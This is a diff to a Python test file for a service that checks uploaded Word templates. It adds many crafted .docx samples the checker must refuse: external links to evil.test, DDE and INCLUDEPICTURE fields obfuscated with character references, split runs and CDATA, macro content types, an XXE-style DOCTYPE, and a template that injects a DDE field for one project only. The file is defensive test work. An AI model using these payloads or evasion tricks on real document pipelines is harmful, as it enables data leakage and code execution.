@@ -4,6 +4,7 @@ import asyncio
 import re
 import time
 from io import BytesIO
+from pathlib import Path
 from typing import Any
 from zipfile import ZIP_DEFLATED, ZipFile
 
@@ -101,7 +102,211 @@ def link(kind: str, target: str) -> bytes:
     return with_part(OWN, "word/_rels/document.xml.rels", old="</Relationships>", new=relation)
 
 
-WRONG: dict[str, tuple[bytes, str]] = {
+def relations(text: str, part: str = "document") -> bytes:
+    """The template with a relationship in the words of `text`."""
+    name = f"word/_rels/{part}.xml.rels"
+    space = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
+    if part != "document":
+        return with_part(OWN, name, f"<Relationships {space}>{text}</Relationships>".encode())
+    return with_part(OWN, name, old="</Relationships>", new=text + "</Relationships>")
+
+
+def body(text: str) -> bytes:
+    """The template with more in its body."""
+    return with_part(OWN, "word/document.xml", old="<w:body>", new="<w:body>" + text)
+
+
+def typed(old: str, new: str) -> bytes:
+    return with_part(OWN, "[Content_Types].xml", old=old, new=new)
+
+
+def code(*pieces: str) -> str:
+    """A field whose code stands in several runs."""
+    runs = "".join(f"<w:r>{piece}</w:r>" for piece in pieces)
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"
+
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+OUTSIDE, FIELD, UNKNOWN = "引用了文件以外的内容", "不能使用的域", "不能识别的部件"
+OUTWARD: dict[str, tuple[bytes, str]] = {
+    "a mode in character references": (
+        relations(
+            f'<Relationship Id="r9" Type="{OFFICE}/image" Target="http://evil.test/a"'
+            ' TargetMode="&#69;xternal"/>'
+        ),
+        OUTSIDE,
+    ),
+    "a mode in other quotes and lines": (
+        relations(
+            f"<Relationship Id='r9' Type='{OFFICE}/image' Target='//evil.test/a'\nTargetMode\n=\n'External'/>"
+        ),
+        OUTSIDE,
+    ),
+    "another prefix of the namespace": (
+        relations(
+            '<q:Relationship xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships"'
+            f' Id="r9" Type="{OFFICE}/attachedTemplate" Target="http://evil.test/a" TargetMode="External"/>'
+        ),
+        OUTSIDE,
+    ),
+    "a type in character references": (
+        relations(f'<Relationship Id="r9" Type="{OFFICE}/&#x6f;leObject" Target="a.bin"/>'),
+        "嵌有对象或控件",
+    ),
+    "a mode in other letters": (
+        relations(
+            f'<Relationship Id="r9" Type="{OFFICE}/image" Target="http://evil.test/a" targetMode="external"/>'
+        ),
+        UNKNOWN,
+    ),
+    "an address without a mode": (
+        relations(f'<Relationship Id="r9" Type="{OFFICE}/image" Target="file:///c:/a.png"/>'),
+        OUTSIDE,
+    ),
+    "a link to a folder of the network": (
+        relations(
+            f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="file://evil/a" TargetMode="External"/>'
+        ),
+        OUTSIDE,
+    ),
+    "a picture by way of a link": (
+        with_part(
+            relations(
+                f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="http://evil.test/a.png"'
+                ' TargetMode="External"/>'
+            ),
+            "word/document.xml",
+            old="<w:body>",
+            new=f'<w:body><w:p><a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:link="r9"/></w:p>',
+        ),
+        OUTSIDE,
+    ),
+    "a link field to a place and a file": (
+        body(code('<w:instrText>HYPERLINK \\l "a" "file://evil/a"</w:instrText>')),
+        OUTSIDE,
+    ),
+    "a relationship of the settings": (
+        relations(
+            f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="&#104;ttp://evil.test/a"'
+            " TargetMode='External'/>",
+            part="settings",
+        ),
+        OUTSIDE,
+    ),
+    "a relationship of a part elsewhere": (
+        with_part(
+            OWN,
+            "other/_rels/header9.xml.rels",
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="r9" Type="{OFFICE}/image" Target="http://evil.test/a" TargetMode="External"/>'
+            "</Relationships>".encode(),
+        ),
+        OUTSIDE,
+    ),
+    "a relationship of nobody's kind": (
+        relations('<Relationship Id="r9" Type="http://evil.test/kind" Target="a.xml"/>'),
+        UNKNOWN,
+    ),
+    "a field in character references": (
+        body(code("<w:instrText>&#73;NCLUDEPICTURE http://evil.test/a</w:instrText>")),
+        FIELD,
+    ),
+    "a field in another prefix": (
+        body(
+            '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+            '<x:fldSimple x:instr="INCLUDEPICTURE http://evil.test/a"/></x:p>'
+        ),
+        FIELD,
+    ),
+    "a field in pieces of all kinds": (
+        body(
+            code(
+                "<w:instrText>D</w:instrText>",
+                "<w:t>D</w:t>",
+                "<w:instrText><![CDATA[E]]><!-- --> c:\\cmd</w:instrText>",
+            )
+        ),
+        "（DDE）",
+    ),
+    "a field whose name another field makes": (
+        body(code('<w:fldChar w:fldCharType="begin"/>', "<w:instrText>QUOTE 68</w:instrText>")),
+        FIELD,
+    ),
+    "a field nobody listed": (body(code("<w:instrText>RD c:\\a.docx</w:instrText>")), "（RD）"),
+    "a link field to a file": (
+        body(code('<w:instrText>HYPERLINK "file://evil/a"</w:instrText>')),
+        OUTSIDE,
+    ),
+    "a field in the end notes": (
+        with_part(
+            typed(
+                "</Types>",
+                f'<Override PartName="/word/e.xml" ContentType="{MAIN.replace("document.main", "endnotes")}"/></Types>',
+            ),
+            "word/e.xml",
+            b'<e xmlns:w="w"><w:fldSimple w:instr="INCLUDETEXT a"/></e>',
+        ),
+        FIELD,
+    ),
+    "a picture of the old drawing": (
+        body(
+            '<w:p><w:r><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.test/a"/></w:r></w:p>'
+        ),
+        OUTSIDE,
+    ),
+    "a mail merge without a relationship": (
+        with_part(
+            OWN,
+            "word/settings.xml",
+            b'<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>',
+        ),
+        OUTSIDE,
+    ),
+    "macros in character references": (
+        typed(MAIN, "application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
+        "里有宏",
+    ),
+    "a content type that nobody listed": (
+        with_part(
+            typed("</Types>", '<Default Extension="bin" ContentType="application/x-any"/></Types>'),
+            "word/a.bin",
+            b"MZ",
+        ),
+        UNKNOWN,
+    ),
+    "markup that calls itself a picture": (with_part(OWN, "word/media/a.png", b" <svg/>"), UNKNOWN),
+    "a part in UTF-16": (
+        with_part(OWN, "word/settings.xml", "\ufeff<a/>".encode("utf-16-le")),
+        "已损坏",
+    ),
+    "a part in another encoding": (
+        with_part(OWN, "word/settings.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
+        "已损坏",
+    ),
+    "a document type in a part of another name": (
+        with_part(
+            typed(
+                "</Types>",
+                f'<Default Extension="dat" ContentType="{MAIN.replace("document.main", "styles")}"/></Types>',
+            ),
+            "word/styles.dat",
+            b'<!DOCTYPE a SYSTEM "http://evil.test/a"><a/>',
+        ),
+        "已损坏",
+    ),
+    "an instruction to the reader": (
+        with_part(OWN, "word/settings.xml", b'<?xml-stylesheet href="http://evil.test/a"?><a/>'),
+        "已损坏",
+    ),
+    "markup that the sample makes": (
+        word("{{ ('<w:fldSimple w:ins' ~ 'tr=\"INCLUDEP' ~ 'ICTURE a\"/>')|safe }}"),
+        "用样例试做的文书不能出具：模板里有不能使用的域",
+    ),
+}
+
+WRONG: dict[str, tuple[bytes, str]] = OUTWARD | {
     "unknown fields, each by its name": (
         word("{{ 编好 }} {{ 编号 }}", "{% for 项 in 首谈申报 %}{{ 项.县区 }}{% endfor %}"),
         "没有的栏目：“编好”、“项.县区”",
@@ -147,8 +352,8 @@ WRONG: dict[str, tuple[bytes, str]] = {
             OWN,
             "word/document.xml",
             old="<w:body>",
-            new="<w:body><w:p><w:r><w:instrText>DD</w:instrText></w:r>"
-            "<w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r></w:p>",
+            new="<w:body>"
+            + code("<w:instrText>DD</w:instrText>", "<w:instrText>EAUTO c:\\\\cmd</w:instrText>"),
         ),
         "DDEAUTO",
     ),
@@ -168,6 +373,50 @@ async def test_a_template_that_cannot_be_used_is_refused_with_what_to_mend(name:
     with pytest.raises(RuleBroken, match=re.escape(words)) as refused:
         await making.check_template(DOCUMENTS["receipt"], "回执模板.docx", data)
     assert (refused.value.code, refused.value.field) == ("INVALID", "file")
+
+
+def saved_by_word() -> bytes:
+    """The template with what Word writes: fields in pieces, links, a table of contents, a pasted picture."""
+    contents = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" '
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + code("<w:instrText> PAGE</w:instrText>", "<w:instrText>REF _Toc1 \\h </w:instrText>")[
+            5:-6
+        ]
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    link = '<w:instrText>HYPERLINK "https://www.ziyang.gov.cn/" \\o "资阳"</w:instrText>'
+    picture = '<w:p><w:r><v:shape xmlns:v="urn:v" style="width:9pt" alt="https://a.test/a.png"/></w:r></w:p>'
+    number = code("<w:instrText> NUM</w:instrText>", "<w:instrText>PAGES </w:instrText>")
+    related = relations(
+        f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="mailto:a@a.test" TargetMode="External"/>'
+    )
+    return with_part(
+        related,
+        "word/document.xml",
+        old="<w:body>",
+        new="<w:body>" + contents + code(link) + number + picture,
+    )
+
+
+@pytest.mark.parametrize("program", ["LibreOffice", "Word"])
+async def test_an_ordinary_template_passes_whoever_saved_it(program: str) -> None:
+    saved = Path(__file__).with_name("saved_by_libreoffice.docx")
+    data = saved.read_bytes() if program == "LibreOffice" else saved_by_word()
+    await making.check_template(DOCUMENTS["receipt"], "回执模板.docx", data)
+
+
+async def test_what_would_fetch_on_one_project_alone_is_not_handed_out(moment: City) -> None:
+    """The sample is harmless; the document of another project is inspected as the template was."""
+    project = await moment.report()
+    sample = DOCUMENTS["receipt"].sample["项目名称"]
+    hidden = f"('<w:fldSimple w:ins' ~ 'tr=\"DDE a\"/>') if 项目名称 != '{sample}' else ''"
+    await moment.done(
+        moment.office, "documentTemplateSet", **given(word(f"{{{{ ({hidden})|safe }}}}"))
+    )
+    async with signed_in("yanjiang") as visitor:
+        answer = await visitor.get(f"/projects/{project['no']}/receipt.docx")
+    assert answer.status_code == 409 and "?builtin=1" in answer.text
 
 
 async def test_a_refused_template_leaves_nothing_behind(city: City) -> None:
